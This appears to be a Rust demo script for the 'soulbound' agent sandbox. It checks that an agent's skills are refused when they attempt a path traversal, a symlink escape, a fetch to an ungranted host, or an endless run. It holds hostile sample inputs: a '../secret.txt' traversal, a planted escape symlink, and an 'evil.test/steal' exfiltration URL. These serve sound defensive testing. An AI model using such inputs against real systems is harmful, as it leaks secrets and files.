//! Guardian, tried five ways: what it was granted works, and the rest is refused with a reason. Then the same behind a
//! gateway ([`gateway`]): every call on record, and one command that ends them all.

mod gateway;
mod incidents;

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use anyhow::{Context, Result, bail};

use crate::build;
use crate::setup::{self, root, say};

/// One thing that an agent's model might ask for.
struct Scene {
    title: &'static str,
    call: &'static [&'static str],
    /// What stands in the outcome when the sandbox did its work.
    expect: &'static str,
    /// The exit code that goes with it.
    code: i32,
}

const SCENES: &[Scene] = &[
    Scene {
        title: "an allowed read: ./documents was granted, and the skill sees it as /documents",
        call: &["file-reader", "read", "path=/documents/policy.md"],
        expect: "text",
        code: 0,
    },
    Scene {
        title: "a traversal: the same skill, a path that climbs out of its grant",
        call: &["file-reader", "read", "path=/documents/../secret.txt"],
        expect: "denied[path.outside]",
        code: 1,
    },
    Scene {
        title: "a symlink escape: somebody left a link in ./documents that leads outside",
        call: &["file-reader", "read", "path=/documents/escape.md"],
        expect: "denied[path.outside]",
        code: 1,
    },
    Scene {
        title: "an ungranted host: the browser may reach en.wikipedia.org and nothing else",
        call: &["browser", "fetch", "url=https://evil.test/steal?data=policy"],
        expect: "denied[host.not-granted]",
        code: 1,
    },
    Scene {
        title: "a spinning guest: a skill that never ends, under `limit: time 5s`",
        call: &["probe", "spin"],
        expect: "denied[limit.time]",
        code: 1,
    },
];

pub(crate) fn run() -> Result<()> {
    build::skills()?;
    build::guests()?;
    let program = build::program()?;
    let agent = stage().context("the demo's copy of Guardian cannot be made")?;
    // What an earlier demo stopped stays stopped, and a call of a SOUL.md heeds that.
    gateway::fresh_home()?;
    let soul = agent.join("SOUL.md");
    println!("\nGuardian, as its SOUL.md grants it:\n");
    setup::run(soulbound(&program).arg("check").arg(shown(&soul)))?;
    for scene in SCENES {
        println!("\n--- {}", scene.title);
        println!("$ soulbound call {} {}", shown(&soul).display(), scene.call.join(" "));
        let output = soulbound(&program).arg("call").arg(shown(&soul)).args(scene.call).output()?;
        judge(scene, &output)?;
    }
    gateway::run(&program, &agent)?;
    println!("\nEach scene as it should be. Try your own:");
    println!(
        "  {} call examples/guardian/SOUL.md file-reader read path=/documents/policy.md",
        shown(&program).display()
    );
    println!("  {} agents add examples/guardian", shown(&program).display());
    Ok(())
}

fn judge(scene: &Scene, output: &Output) -> Result<()> {
    let text =
        format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    for line in text.lines() {
        println!("  {line}");
    }
    if output.status.code() != Some(scene.code) || !text.contains(scene.expect) {
        bail!("expected `{}` and exit code {}, got {}", scene.expect, scene.code, output.status);
    }
    Ok(())
}

/// A copy of Guardian in `target/demo/`, with a link that leads out and a skill that misbehaves.
fn stage() -> Result<PathBuf> {
    let agent = root().join("target/demo/guardian");
    if agent.exists() {
        fs::remove_dir_all(&agent)?;
    }
    build::copy_tree(&root().join("examples/guardian"), &agent)?;
    fs::write(agent.join("secret.txt"), "the secret that no skill was granted\n")?;
    std::os::unix::fs::symlink("../secret.txt", agent.join("documents/escape.md"))?;
    build::copy_tree(&root().join("target/guests/probe"), &agent.join("skills/probe"))?;
    let soul = fs::read_to_string(agent.join("SOUL.md"))?;
    let probe = "- probe: Misbehave on purpose, for this demo\n  - limit: time 5s\n";
    fs::write(agent.join("SOUL.md"), soul.replacen("## Skills\n", &format!("## Skills\n{probe}"), 1))?;
    say("Guardian's folder is copied to target/demo/guardian");
    Ok(agent)
}

fn soulbound(program: &Path) -> Command {
    let mut command = Command::new(program);
    // A state folder of its own: the demo touches nothing of the user's.
    command.current_dir(root()).env("SOULBOUND_HOME", root().join("target/demo/home"));
    command
}

/// The path as the README writes it, from the repository's root.
fn shown(path: &Path) -> PathBuf {
    path.strip_prefix(root()).unwrap_or(path).to_owned()
}
